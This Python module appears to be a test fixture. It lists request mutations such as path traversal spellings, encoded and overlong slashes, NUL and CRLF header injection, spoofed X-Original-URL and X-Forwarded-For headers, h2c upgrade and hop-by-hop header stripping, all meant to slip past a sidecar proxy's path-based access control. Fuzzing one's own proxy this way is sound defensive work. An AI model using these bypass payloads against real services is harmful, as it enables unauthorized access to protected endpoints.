"""The spellings: what made proxies take one path for another. Each is bytes of a request line, and headers."""

from __future__ import annotations

import posixpath
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from urllib.parse import unquote

Headers = tuple[tuple[bytes, bytes], ...]


@dataclass(frozen=True, slots=True)
class Request:
    """What goes out: `target` as it stands in the request line."""

    target: bytes
    verb: str = ""
    """Another than the target's own."""
    headers: Headers = field(default=())
    host: bytes = b"localhost"
    version: bytes = b"HTTP/1.1"


def leads_to(target: bytes) -> str:
    """What the most obliging server would take it for: all decoded, parameters dropped, dots resolved, slashes merged."""
    text = re.sub(r"^https?://[^/]*", "", target.decode("latin-1"))
    text = re.split("[?#]", text)[0]
    text = re.sub(";[^/]*", "", unquote(text, "latin-1"))
    return posixpath.normpath("/" + text.lstrip("/"))


def _encoded(text: str) -> str:
    return "".join(f"%{ord(letter):02x}" for letter in text)


def _tail_encoded(path: str) -> str:
    return "/" + _encoded(path[1:])


# Path in, path out. HTTP/2 gets them too.
SPELLINGS: dict[str, Callable[[str], str]] = {
    "as it is": lambda path: path,
    "two slashes before": lambda path: "/" + path,
    "two slashes everywhere": lambda path: path.replace("/", "//"),
    "a slash behind": lambda path: path + "/",
    "/x/.. behind": lambda path: path + "/x/..",
    "/. before": lambda path: "/." + path,
    "/.. before": lambda path: "/.." + path,
    "/%2e before": lambda path: "/%2e" + path,
    "/%2e%2e before": lambda path: "/%2e%2e" + path,
    "/x/.. before": lambda path: "/x/.." + path,
    "from the public path by ..": lambda path: "/health/.." + path,
    "from the public path by %2e%2e": lambda path: "/health/%2e%2e" + path,
    "from the public path by ..;": lambda path: "/health/..;" + path,
    "from a public RPC by ..": lambda path: "/sidecar.v1.RestService/Health/../.." + path,
    "from a named location": lambda path: "/@rest_get/.." + path,
    "back to the public path": lambda path: path + "/.." * path.count("/") + "/health",
    "behind the public path": lambda path: "/health" + path,
    "behind the public path and %00": lambda path: "/health%00" + path,
    "behind the public path and ;": lambda path: "/health;" + path,
    "behind the public path and ?": lambda path: "/health?" + path,
    "the public path in the query": lambda path: path + "?/health",
    "an empty query": lambda path: path + "?",
    "a question mark written out": lambda path: path + "%3f",
    "a slash written out": lambda path: "/" + path[1:].replace("/", "%2f"),
    "a slash written out twice": lambda path: "/" + path[1:].replace("/", "%252f"),
    "a letter written out": lambda path: f"/{_encoded(path[1:2])}{path[2:]}",
    "all written out": _tail_encoded,
    "upper case": str.upper,
    "swapped case": str.swapcase,
    "parameters": lambda path: path + ";a=b",
    "%2f and a dot": lambda path: path + "%2f.",
    "%5c": lambda path: "/" + path[1:].replace("/", "%5c"),
    "an overlong slash": lambda path: "/" + path[1:].replace("/", "%c0%af"),
    "an overlong dot": lambda path: "/%c0%ae" + path,
    "a full-width slash": lambda path: "/" + path[1:].replace("/", "%ef%bc%8f"),
    "broken UTF-8": lambda path: path + "%ff",
    "NUL": lambda path: path + "%00",
    "a newline": lambda path: path + "%0a",
    "CRLF and a header": lambda path: path + "%0d%0aX-Sidecar-User:%20alice",
    "a lone percent sign": lambda path: path + "%",
    "a fragment": lambda path: path + "#/health",
    "a fragment of the public path": lambda path: "/health#" + path,
}


def _plain(spelling: Callable[[str], str]) -> Callable[[str], Request]:
    return lambda path: Request(spelling(path).encode("latin-1"))


def _with(name: bytes, value: bytes) -> Callable[[str], Request]:
    return lambda path: Request(path.encode(), headers=((name, value),))


# What only a request line or a header can say: HTTP/1.1 alone.
LINES: dict[str, Callable[[str], Request]] = {
    "raw broken UTF-8": lambda path: Request(path.encode() + b"\xff\xfe"),
    "a raw overlong slash": lambda path: Request(b"/" + path[1:].encode().replace(b"/", b"\xc0\xaf")),
    "backslashes": lambda path: Request(path.replace("/", "\\").encode()),  # Envoy ends an HTTP/2 connection for it
    "no slash before": lambda path: Request(path[1:].encode()),
    "absolute form": lambda path: Request(b"https://localhost" + path.encode()),
    "absolute form, plain": lambda path: Request(b"http://localhost" + path.encode()),
    "absolute form of another host": lambda path: Request(b"https://health" + path.encode(), host=b"health"),
    "absolute form of a user": lambda path: Request(b"https://alice@localhost" + path.encode()),
    "HTTP/1.0": lambda path: Request(path.encode(), version=b"HTTP/1.0"),
    "another host": lambda path: Request(path.encode(), host=b"127.0.0.1"),
    "the inner host": lambda path: Request(path.encode(), host=b"inner"),
    "an odd host": lambda path: Request(path.encode(), host=b"localhost:1/health"),
    "OPTIONS": lambda path: Request(path.encode(), verb="OPTIONS"),
    "HEAD": lambda path: Request(path.encode(), verb="HEAD"),
    "a method nobody knows": lambda path: Request(path.encode(), verb="FROB"),
    "the caller's own name": _with(b"X-Sidecar-User", b"alice"),
    "the caller's own name, underscored": _with(b"x_sidecar_user", b"alice"),
    "another path in a header": _with(b"X-Original-URL", b"/health"),
    "a rewritten path in a header": _with(b"X-Rewrite-URL", b"/health"),
    "another path for Envoy": _with(b"X-Envoy-Original-Path", b"/health"),
    "another method": _with(b"X-HTTP-Method-Override", b"GET"),
    "from this machine": _with(b"X-Forwarded-For", b"127.0.0.1"),
    "an upgrade": lambda path: Request(
        path.encode(), headers=((b"Connection", b"Upgrade, HTTP2-Settings"), (b"Upgrade", b"h2c"))
    ),
    "headers taken off": _with(b"Connection", b"x-sidecar-user, authorization"),
}

MUTATIONS: dict[str, Callable[[str], Request]] = {
    **{name: _plain(spelling) for name, spelling in SPELLINGS.items()},
    **LINES,
}
